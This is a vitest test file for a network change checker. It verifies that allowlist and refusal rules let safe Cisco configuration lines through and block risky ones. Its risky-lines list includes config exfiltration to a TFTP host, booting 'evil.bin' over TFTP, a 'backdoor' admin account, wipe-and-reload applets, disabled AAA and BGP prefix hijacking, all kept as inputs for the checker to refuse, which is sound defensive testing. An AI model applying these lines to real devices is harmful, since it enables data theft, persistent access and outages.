// The checks a proposed change passes before it is staged. Every allow rule has a line it allows and a
// near miss no rule allows; every refusal has a line it refuses and a near miss it lets through; line sets
// that would hurt a production device are all refused; every fix the analyzers propose for every lab
// scenario passes; a team's additions allow more, and never override a refusal.
import { mkdtempSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { analyzeNetwork } from "../../src/analyzers/analyze.js";
import { countsAsRootCause, remediationFor } from "../../src/analyzers/rank.js";
import { allowingRule, BUILTIN_ALLOW_RULES, type SectionKind } from "../../src/changes/allowlist.js";
import { AllowlistFileError, loadAllowlistExtension } from "../../src/changes/allowlist-file.js";
import { checkProposedLines, type DeviceContext, REFUSAL_RULES } from "../../src/changes/check-lines.js";
import { LabNetworkSource } from "../../src/network/lab/driver.js";
import { loadLabFile } from "../../src/network/lab/load.js";
import { RedactingNetworkSource } from "../../src/network/secrets/redacting-source.js";
import { SecretVault } from "../../src/network/secrets/vault.js";
import type { NetworkSource } from "../../src/network/source.js";
import { PACKAGE_ROOT } from "../../src/paths.js";
import { ManualClock } from "../helpers/clock.js";
import { redactedLabIn } from "../helpers/lab.js";

async function contextOf(network: NetworkSource, device: string): Promise<DeviceContext> {
  return {
    device,
    inventory: await network.inventory(),
    running: await network.getConfig(device),
    ospf: await network.getOspfNeighbors(device),
    bgp: await network.getBgpNeighbors(device),
    routes: await network.getRoutes(device),
    lldp: await network.getLldpNeighbors(device),
  };
}

// As every command sees the network: behind the secrets boundary, where br-rtr1's SNMP community is a token.
const context = (device = "br-rtr1") => contextOf(redactedLabIn("wan-primary-down").network, device);

/** The lines with `$COMMUNITY` standing for the token of br-rtr1's community, as the check sees it. */
const withCommunity = (ctx: DeviceContext, lines: string[]) => {
  const token = /^snmp-server community (\S+) RO MGMT-ONLY$/m.exec(ctx.running)?.[1];
  if (!token) throw new Error("br-rtr1 has no read-only community on MGMT-ONLY");
  return lines.map((l) => l.replace("$COMMUNITY", token));
};

// [rule, section, a line it allows, a near miss that no rule allows in that section]
const ALLOW_CASES: Array<[string, SectionKind, string, string]> = [
  ["ALLOW-INTERFACE", "top", "interface GigabitEthernet0/2", "no interface GigabitEthernet0/2"],
  ["ALLOW-OSPF-PROCESS", "top", "router ospf 1", "no router ospf 1"],
  ["ALLOW-BGP-PROCESS", "top", "router bgp 65010", "no router bgp 65010"],
  ["ALLOW-BGP-AF", "router-bgp", "address-family ipv4 unicast", "address-family l2vpn evpn"],
  ["ALLOW-ACL-SECTION", "top", "ip access-list extended BRANCH-IN", "no ip access-list extended BRANCH-IN"],
  ["ALLOW-ROUTE-MAP", "top", "route-map RM-IN permit 10", "no route-map RM-IN"],
  ["ALLOW-CLASS-MAP", "top", "class-map match-any VOICE", "no class-map match-any VOICE"],
  ["ALLOW-POLICY-MAP", "top", "policy-map WAN-QOS", "no policy-map WAN-QOS"],
  ["ALLOW-POLICY-CLASS", "policy-map", "class VOICE", "class"],
  ["ALLOW-LINE", "top", "line vty 0 4", "no line vty 5 15"],
  ["ALLOW-EXIT", "interface", "exit", "end"],
  ["ALLOW-STATIC-ROUTE", "top", "ip route 10.20.0.0 255.255.0.0 10.255.1.2", "ip route profile"],
  [
    "ALLOW-PREFIX-LIST",
    "top",
    "ip prefix-list PL-IN seq 5 permit 10.0.0.0/8 le 24",
    "ip prefix-list PL-IN seq 5 permit any",
  ],
  [
    "ALLOW-ACL-NUMBERED",
    "top",
    "access-list 110 permit tcp any host 10.20.10.5 eq 443",
    "no access-list 110 permit tcp any any",
  ],
  ["ALLOW-DNS-SERVER", "top", "ip name-server 10.20.10.53", "ip dns server"],
  ["ALLOW-NTP-SERVER", "top", "ntp server 10.20.10.123 prefer", "ntp master 3"],
  [
    "ALLOW-LOGIN-BLOCK",
    "top",
    "login block-for 120 attempts 5 within 60",
    "no login block-for 120 attempts 5 within 60",
  ],
  ["ALLOW-SNMP-COMMUNITY-REMOVE", "top", "no snmp-server community public", "snmp-server community public"],
  [
    "ALLOW-SNMP-COMMUNITY-RO",
    "top",
    "snmp-server community N0c-R34d-0nly RO MGMT-ONLY",
    "snmp-server community N0c-R34d-0nly RW MGMT-ONLY",
  ],
  ["ALLOW-HTTP-OFF", "top", "no ip http server", "ip http server"],
  ["ALLOW-LOGGING-CONSOLE", "top", "logging console critical", "no logging on"],
  ["ALLOW-STP-PRIORITY", "top", "spanning-tree vlan 10,20 priority 4096", "no spanning-tree vlan 10"],
  [
    "ALLOW-NAT-POOL",
    "top",
    "ip nat pool INET 203.0.113.10 203.0.113.20 prefix-length 28",
    "ip nat pool INET 203.0.113.10 203.0.113.20",
  ],
  [
    "ALLOW-NAT-SOURCE",
    "top",
    "ip nat inside source list NAT-ACL pool INET overload",
    "ip nat inside source static 10.0.0.5 203.0.113.5",
  ],
  ["ALLOW-IF-SHUTDOWN", "interface", "no shutdown", "shut"],
  ["ALLOW-IF-DESCRIPTION", "interface", "description users", "description"],
  ["ALLOW-IF-SPEED-DUPLEX", "interface", "no duplex", "duplex fast"],
  ["ALLOW-IF-MTU", "interface", "no ip mtu", "ip mtu"],
  ["ALLOW-IF-ADDRESS", "interface", "ip address 10.10.10.1 255.255.255.0", "ip address dhcp"],
  ["ALLOW-IF-HELPER", "interface", "ip helper-address 10.20.10.67", "ip helper-address global 10.20.10.67"],
  ["ALLOW-IF-ACL", "interface", "ip access-group BRANCH-IN in", "ip access-group BRANCH-IN both"],
  ["ALLOW-IF-QOS", "interface", "service-policy output WAN-QOS", "service-policy type control subscriber X"],
  ["ALLOW-IF-OSPF", "interface", "no ip ospf message-digest-key 2", "ip ospf database-filter all out"],
  [
    "ALLOW-IF-STORM",
    "interface",
    "storm-control broadcast level 1.00",
    "no storm-control broadcast level 1.00",
  ],
  ["ALLOW-IF-STP", "interface", "spanning-tree bpduguard enable", "no spanning-tree bpduguard enable"],
  ["ALLOW-IF-SWITCHPORT", "interface", "switchport access vlan 10", "switchport port-security maximum 1"],
  ["ALLOW-IF-CHANNEL", "interface", "channel-group 1 mode active", "channel-group 1"],
  ["ALLOW-IF-FHRP", "interface", "standby 1 ip 10.10.10.254", "standby 1 authentication md5 key-string x"],
  ["ALLOW-IF-NAT", "interface", "ip nat inside", "ip nat enable"],
  ["ALLOW-IF-DISCOVERY", "interface", "no cdp enable", "cdp tlv location"],
  ["ALLOW-IF-KEEPALIVE", "interface", "keepalive 10", "keepalive once"],
  [
    "ALLOW-OSPF-NETWORK",
    "router-ospf",
    "network 10.10.10.0 0.0.0.255 area 0",
    "network 10.10.10.0/24 area 0",
  ],
  ["ALLOW-OSPF-PASSIVE", "router-ospf", "no passive-interface GigabitEthernet0/0", "passive-interface"],
  ["ALLOW-OSPF-AREA-AUTH", "router-ospf", "area 0 authentication message-digest", "area 0 stub no-summary"],
  ["ALLOW-OSPF-TUNING", "router-ospf", "log-adjacency-changes detail", "router-id 10.99.0.99"],
  [
    "ALLOW-BGP-REMOTE-AS",
    "router-bgp",
    "neighbor 203.0.113.1 remote-as 64500",
    "no neighbor 203.0.113.1 remote-as 64500",
  ],
  [
    "ALLOW-BGP-NEIGHBOR",
    "router-bgp",
    "neighbor 203.0.113.1 maximum-prefix 1000 90",
    "neighbor 203.0.113.1 local-as 65000",
  ],
  ["ALLOW-BGP-NETWORK", "router-bgp", "network 198.51.100.0 mask 255.255.255.0", "redistribute connected"],
  ["ALLOW-BGP-LOG", "router-bgp", "bgp log-neighbor-changes", "bgp router-id 1.1.1.1"],
  ["ALLOW-ACL-ENTRY", "acl", "10 permit tcp any any eq 8443", "evaluate REFLECT"],
  ["ALLOW-ACL-SEQ-REMOVE", "acl", "no 20", "20"],
  ["ALLOW-ROUTE-MAP-ENTRY", "route-map", "set local-preference 200", "continue 20"],
  ["ALLOW-CLASS-MATCH", "class-map", "match dscp ef", "service-policy X"],
  ["ALLOW-POLICY-ACTION", "policy-class", "priority percent 20", "class VOICE"],
  ["ALLOW-LINE-TIMEOUT", "line", "exec-timeout 10 0", "exec-timeout 0 0"],
  ["ALLOW-LINE-SSH", "line", "transport input ssh", "transport input telnet ssh"],
  ["ALLOW-LINE-ACCESS-CLASS", "line", "access-class MGMT-ONLY in", "access-class MGMT-ONLY out"],
];

// [refusal, lines it refuses, a near miss it lets through, the device]
const REFUSAL_CASES: Array<[string, string[], string[], string?]> = [
  [
    "CHANGE-SHAPE",
    ["```", "interface GigabitEthernet0/2"],
    ["! a comment", "interface GigabitEthernet0/2", " description x"],
  ],
  [
    "CHANGE-EXEC",
    ["interface GigabitEthernet0/2", " description x", "end", "write memory"],
    ["interface GigabitEthernet0/2", " description end of row"],
  ],
  [
    "CHANGE-PLACEHOLDER",
    ["interface GigabitEthernet0/0", " ip ospf message-digest-key 1 md5 <secret-3>"],
    ["interface GigabitEthernet0/0", " ip ospf message-digest-key 1 md5 <redacted:0822455d0a>"],
  ],
  [
    "CHANGE-NEW-SECRET",
    ["router bgp 65010", " neighbor 203.0.113.1 password guessed"],
    ["router bgp 65010", " no neighbor 203.0.113.1 password guessed"],
    "inet-edge1",
  ],
  [
    "CHANGE-OTHER-DEVICE",
    ["ip route 10.0.0.0 255.0.0.0 dc-wan1"],
    ["interface GigabitEthernet0/0", " description to dc-wan1 Gi0/1"],
  ],
  [
    "CHANGE-UNKNOWN-SECTION",
    ["router bgp 65001", " bgp log-neighbor-changes"],
    ["router ospf 1", " log-adjacency-changes"],
  ],
  [
    "CHANGE-NEW-NEIGHBOR",
    ["router bgp 65010", " neighbor 192.0.2.99 remote-as 65666"],
    ["router bgp 65010", " neighbor 203.0.113.1 remote-as 64500"],
    "inet-edge1",
  ],
  [
    "CHANGE-NEW-COMMUNITY",
    ["snmp-server community public RO"],
    ["snmp-server community $COMMUNITY RO MGMT-ONLY"],
  ],
  [
    "CHANGE-MGMT-INTERFACE",
    ["interface Loopback0", " shutdown"],
    ["interface Loopback0", " description router id"],
  ],
  // In wan-primary-down, br-rtr1 reaches the NOC over its backup link, GigabitEthernet0/1.
  [
    "CHANGE-MGMT-PATH",
    ["interface GigabitEthernet0/1", " shutdown"],
    ["interface GigabitEthernet0/0", " shutdown"],
  ],
  [
    "CHANGE-MGMT-ACL",
    ["ip access-list standard MGMT-ONLY", " permit any"],
    ["ip access-list extended BRANCH-IN", " permit tcp any any eq 8443"],
  ],
  [
    "CHANGE-BLACKHOLE",
    ["ip route 10.99.0.21 255.255.255.255 Null0"],
    ["ip route 192.0.2.0 255.255.255.0 Null0"],
  ],
  [
    "CHANGE-FOREIGN-PREFIX",
    ["router bgp 65010", " network 8.8.8.0 mask 255.255.255.0"],
    ["router bgp 65010", " no network 8.8.8.0 mask 255.255.255.0"],
    "inet-edge1",
  ],
  [
    "CHANGE-BOUNDS",
    ["login block-for 65535 attempts 1 within 65535"],
    ["login block-for 120 attempts 5 within 60"],
  ],
  ["CHANGE-NOT-ALLOWED", ["no aaa new-model"], ["no ip http server"]],
];

// Line sets that would hurt a production device; every one must be refused. br-rtr1 unless a device is named.
const RISKY: Array<string[] | [string, string[]]> = [
  [
    "event manager applet FIX",
    " event none",
    ' action 1.0 cli command "enable"',
    ' action 2.0 cli command "reload"',
  ],
  ["event manager applet WIPE", " event timer countdown time 60", ' action 1.0 cli command "write erase"'],
  ["kron policy-list CLEAN", " cli write erase", "kron occurrence NOW in 1 oneshot", " policy-list CLEAN"],
  ["interface GigabitEthernet0/2", " description x", "end", "reload in 1"],
  ["do copy running-config tftp://203.0.113.9/x"],
  ["snmp-server view ALL iso included", "snmp-server community c0ll3ct view ALL RW"],
  ["snmp-server community $COMMUNITY RW"],
  ["snmp-server community public RO"],
  ["snmp-server community $COMMUNITY RO"],
  ["line vty 0 4", " transport input telnet ssh"],
  ["line vty 0 4", " transport input all"],
  ["ip access-list standard ANY", " permit any", "line vty 0 4", " access-class ANY in"],
  ["ip access-list standard MGMT-ONLY", " permit any"],
  ["line vty 0 4", " no login"],
  ["line con 0", " exec-timeout 0 0"],
  ["interface GigabitEthernet0/0", " ip ospf message-digest-key 1 md5 <secret-1>"],
  ["snmp-server community <redacted> RO"],
  ["username backdoor privilege 15 secret 0 x"],
  ["enable secret 0 newpass"],
  ["no aaa new-model"],
  ["aaa authentication login default none"],
  ["no logging host 10.20.10.50"],
  ["interface Loopback0", " shutdown"],
  ["interface Loopback0", " ip address 10.99.0.99 255.255.255.255"],
  ["no router ospf 1"],
  ["boot system tftp://203.0.113.9/evil.bin"],
  ["archive", " path tftp://203.0.113.9/cfg", " write-memory"],
  ["tftp-server flash:startup-config"],
  ["ip http server", "ip http authentication local"],
  ["crypto key zeroize rsa"],
  ["router ospf 1", " redistribute static subnets"],
  ["alias exec sh reload"],
  ["hostname core-9"],
  ["privilege exec level 1 configure terminal"],
  ["no access-list 10"],
  ["no service password-encryption"],
  ["interface GigabitEthernet0/2", " vrf forwarding GUEST"],
  ["banner motd #", "interface GigabitEthernet0/2", " shutdown", "#"],
  // Text the parser could be made to read differently from the device.
  ["interface GigabitEthernet0/0", "!\n ip ospf message-digest-key 1 md5 <secret-1>", "end\n!"],
  ["interface GigabitEthernet0/2", " description users\nend"],
  ["interface Loopback0", " description router id", "interface\u00a0GigabitEthernet0/2", " shutdown"],
  ["interface Loopback0", " description router id", "interface\tGigabitEthernet0/2", " shutdown"],
  ["interface Gi0/2", " shutdown"],
  // The way to the NOC, and other devices' addresses.
  ["router ospf 1", " no network 10.99.0.11 0.0.0.0 area 0"],
  ["router ospf 1", " passive-interface GigabitEthernet0/1"],
  ["login block-for 65535 attempts 1 within 65535"],
  ["interface GigabitEthernet0/1", " shutdown"],
  [
    "ip access-list extended NOC-CUT",
    " deny tcp any any eq 22",
    "interface GigabitEthernet0/1",
    " ip access-group NOC-CUT in",
  ],
  [
    "interface GigabitEthernet0/2",
    " standby 1 ip 10.10.10.2",
    " standby 1 priority 255",
    " standby 1 preempt",
  ],
  ["interface GigabitEthernet0/2", " ip address 10.20.10.1 255.255.255.0 secondary"],
  ["ip route 10.99.0.21 255.255.255.255 Null0"],
  ["ip route 0.0.0.0 0.0.0.0 Null0"],
  ["ip access-list standard OPEN", " permit any", "line vty 0 4", " access-class OPEN in"],
  ["interface GigabitEthernet0/2", " ip mtu 68"],
  ["interface GigabitEthernet0/2", " bandwidth 1"],
  ["br-sw1", ["interface GigabitEthernet1/0/1", " no switchport"]],
  ["br-sw1", ["interface GigabitEthernet1/0/1", " switchport access vlan 999"]],
  ["br-sw1", ["interface GigabitEthernet1/0/5", " no storm-control broadcast level 1.00"]],
  ["br-sw1", ["interface GigabitEthernet1/0/5", " spanning-tree bpdufilter enable"]],
  ["br-sw1", ["interface GigabitEthernet1/0/5", " no spanning-tree bpduguard enable"]],
  // BGP: announcing someone else's prefix, deleting a neighbor.
  [
    "inet-edge1",
    ["ip route 8.8.8.0 255.255.255.0 Null0", "router bgp 65010", " network 8.8.8.0 mask 255.255.255.0"],
  ],
  ["inet-edge1", ["router bgp 65010", " no neighbor 203.0.113.1 remote-as 64500"]],
  ["interface GigabitEthernet0/0", " ip ospf message-digest-key 1 md5 7 0822455D0A16544541"],
  ["snmp-server community N0c-R34d-0nly RO MGMT-ONLY"],
];

const risky = RISKY.map((entry): [string, string, string[]] => {
  const [device, lines] = Array.isArray(entry[1])
    ? (entry as [string, string[]])
    : ["br-rtr1", entry as string[]];
  return [`${device}: ${lines.join(" / ")}`, device, lines];
});

describe("the allowlist", () => {
  it("has an allowed line and a near miss for every rule", () => {
    expect(new Set(ALLOW_CASES.map(([id]) => id))).toEqual(new Set(BUILTIN_ALLOW_RULES.map((r) => r.id)));
  });

  it.each(ALLOW_CASES)("%s allows in %s: %s; not: %s", (id, section, allowed, nearMiss) => {
    expect(allowingRule(BUILTIN_ALLOW_RULES, section, allowed)?.rule.id).toBe(id);
    expect(allowingRule(BUILTIN_ALLOW_RULES, section, nearMiss)).toBeUndefined();
  });

  it("allows a line only in its own section", () => {
    expect(allowingRule(BUILTIN_ALLOW_RULES, "top", "no shutdown")).toBeUndefined();
    expect(allowingRule(BUILTIN_ALLOW_RULES, "line", "ip access-group X in")).toBeUndefined();
    expect(
      allowingRule(BUILTIN_ALLOW_RULES, "interface", "ip route 10.0.0.0 255.0.0.0 10.1.1.1"),
    ).toBeUndefined();
  });
});

describe("checkProposedLines", () => {
  it("has a refused set and a near miss for every refusal rule", () => {
    expect(new Set(REFUSAL_CASES.map(([id]) => id))).toEqual(new Set(Object.keys(REFUSAL_RULES)));
  });

  it.each(REFUSAL_CASES)("%s refuses %j and lets %j through", async (id, refused, nearMiss, device) => {
    const ctx = await context(device);
    expect(checkProposedLines(withCommunity(ctx, refused), ctx).problems.join("\n")).toContain(`${id}:`);
    expect(checkProposedLines(withCommunity(ctx, nearMiss), ctx).problems).toEqual([]);
  });

  it.each(risky)("refuses %s", async (_name, device, lines) => {
    const ctx = await context(device);
    expect(checkProposedLines(withCommunity(ctx, lines), ctx).problems).not.toEqual([]);
  });

  it("refuses an empty, oversized or indented proposal, and an unknown device", async () => {
    const ctx = await context();
    const problems = (lines: string[]) => checkProposedLines(lines, ctx).problems.join("\n");
    expect(problems([])).toContain("no lines");
    expect(problems([" no shutdown"])).toContain("the first line is indented");
    expect(problems(Array.from({ length: 61 }, () => "no ip http server"))).toContain("at most 60");
    expect(problems(["interface GigabitEthernet0/2", ` description ${"x".repeat(400)}`])).toContain(
      "characters long",
    );
    expect(problems(["interface GigabitEthernet0/2", " description caf\u00e9"])).toContain("printable ASCII");
    expect(checkProposedLines(["no ip http server"], { ...ctx, device: "nope" }).problems[0]).toContain(
      "not a device in the inventory",
    );
  });

  it("refuses sub-commands under a line that takes none", async () => {
    const { problems } = checkProposedLines(["no ip http server", " shutdown"], await context());
    expect(problems.join("\n")).toContain("CHANGE-NOT-ALLOWED: 'shutdown' sits under 'no ip http server'");
  });

  it("lets a whole fix through and says what it could break", async () => {
    const { problems, risks } = checkProposedLines(
      [
        "interface GigabitEthernet0/0",
        " no shutdown",
        " ip mtu 1400",
        "router ospf 1",
        " no passive-interface GigabitEthernet0/0",
      ],
      await context(),
    );
    expect(problems).toEqual([]);
    const said = risks.join("\n");
    expect(said).toContain("brings GigabitEthernet0/0 up");
    expect(said).toContain(
      "changes the MTU: adjacencies on the link re-form: 'interface GigabitEthernet0/0 / ip mtu 1400'",
    );
    expect(said).toContain("changes which interfaces form OSPF adjacencies");
  });

  it("says when a fix touches the management path, and lets what only bounces the link through", async () => {
    const { problems, risks } = checkProposedLines(
      ["interface GigabitEthernet0/1", " no ip mtu"],
      await context(),
    );
    expect(problems).toEqual([]);
    expect(risks.join("\n")).toContain("GigabitEthernet0/1 is on the management path");
  });
});

describe("the fixes the analyzers propose", () => {
  // Every lab in lab/: each scenario's rules-only fix must pass, or the allowlist blocks the product's own fixes.
  const labs = readdirSync(join(PACKAGE_ROOT, "lab"))
    .filter((f) => f.endsWith(".lab.yaml"))
    .map((f) => loadLabFile(join(PACKAGE_ROOT, "lab", f)));
  const cases = labs.flatMap((lab) => lab.scenarios.map((s) => [`${lab.name}: ${s.id}`, lab, s.id] as const));

  it.each(cases)("pass the checks: %s", async (_name, lab, scenario) => {
    const clock = new ManualClock();
    const network = new RedactingNetworkSource(
      new LabNetworkSource(lab, scenario, clock),
      SecretVault.ephemeral(),
    );
    const analysis = await analyzeNetwork(network, clock.now());
    const top = analysis.candidates[0];
    const lines = top && countsAsRootCause(top) ? remediationFor(top, analysis.findings) : [];
    if (!top || lines.length === 0) return;
    expect(checkProposedLines(lines, await contextOf(network, top.device)).problems).toEqual([]);
  });

  it("lets a redacted secret stand where a secret goes, and refuses it anywhere else", async () => {
    const ctx = await context();
    const token = "<redacted:0822455d0a>";
    const problems = (lines: string[]) => checkProposedLines(lines, ctx).problems.join("\n");
    expect(problems(["interface GigabitEthernet0/1", ` ip ospf message-digest-key 1 md5 7 ${token}`])).toBe(
      "",
    );
    expect(problems(["snmp-server community <redacted:5a402ab126> RO"])).not.toContain("CHANGE-PLACEHOLDER");
    for (const misplaced of [
      ["interface GigabitEthernet0/1", ` description ${token}`],
      [`logging host ${token}`],
      ["interface GigabitEthernet0/1", ` ip ospf message-digest-key 1 md5 7 ${token}x`],
      ["interface GigabitEthernet0/1", " ip ospf message-digest-key 1 md5 7 <redacted>"],
      ["interface GigabitEthernet0/1", " ip ospf message-digest-key 1 md5 7 <secret-3>"],
    ])
      expect(problems(misplaced), misplaced.join(" / ")).toContain("CHANGE-PLACEHOLDER");
  });
});

describe("a team's additions to the allowlist", () => {
  const file = (text: string) => {
    const path = join(mkdtempSync(join(tmpdir(), "nocbot-allow-")), "allow.yaml");
    writeFileSync(path, text);
    return path;
  };
  const SYSLOG = `version: 1
rules:
  - id: TEAM-SYSLOG-HOST
    in: [top]
    line: "logging host \\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+"
    negatable: true
    why: we move syslog collectors
  - id: TEAM-VTY-ANY
    in: [line]
    line: "access-class \\\\S+ in"
    why: a team that thinks this is fine
`;

  it("allows what it adds, says which team rule allowed it, and still refuses what no rule may allow", async () => {
    const extension = loadAllowlistExtension(file(SYSLOG));
    expect(extension.sha256).toMatch(/^[0-9a-f]{64}$/);
    const ctx = await context();
    expect(checkProposedLines(["no logging host 10.20.10.50"], ctx).problems).not.toEqual([]);
    const allowed = checkProposedLines(
      ["no logging host 10.20.10.50", "logging host 10.20.10.51"],
      ctx,
      extension.rules,
    );
    expect(allowed).toMatchObject({ problems: [], teamRules: ["TEAM-SYSLOG-HOST"] });
    // A team rule adds lines; the management ACL, other devices and placeholders are still refused.
    const refusedWith = (lines: string[]) =>
      checkProposedLines(lines, ctx, extension.rules).problems.join("\n");
    expect(refusedWith(["ip access-list standard MGMT-ONLY", " permit any"])).toContain("CHANGE-MGMT-ACL");
    expect(refusedWith(["logging host <secret-2>"])).toContain("CHANGE-PLACEHOLDER");
    expect(refusedWith(["logging host 10.0.0.1", "ip route 10.0.0.0 255.0.0.0 dc-wan1"])).toContain(
      "CHANGE-OTHER-DEVICE",
    );
  });

  it("refuses a file that is not what it should be, in one line", () => {
    expect(() =>
      loadAllowlistExtension(
        file("version: 1\nrules:\n  - id: SYSLOG\n    in: [top]\n    line: x\n    why: y\n"),
      ),
    ).toThrow(/rules\.0\.id: expected an id such as TEAM-SYSLOG-HOST/);
    expect(() =>
      loadAllowlistExtension(
        file("version: 1\nrules:\n  - id: TEAM-X\n    in: [top]\n    line: '('\n    why: y\n"),
      ),
    ).toThrow(/not a valid regular expression/);
    expect(() =>
      loadAllowlistExtension(
        file("version: 1\nrules:\n  - id: TEAM-X\n    in: [router-eigrp]\n    line: x\n    why: y\n"),
      ),
    ).toThrow(AllowlistFileError);
    expect(() => loadAllowlistExtension("/nonexistent/allow.yaml")).toThrow(
      "the allowlist file /nonexistent/allow.yaml does not exist",
    );
    expect(() => loadAllowlistExtension("/dev/zero")).toThrow("/dev/zero is not a regular file");
  });
});
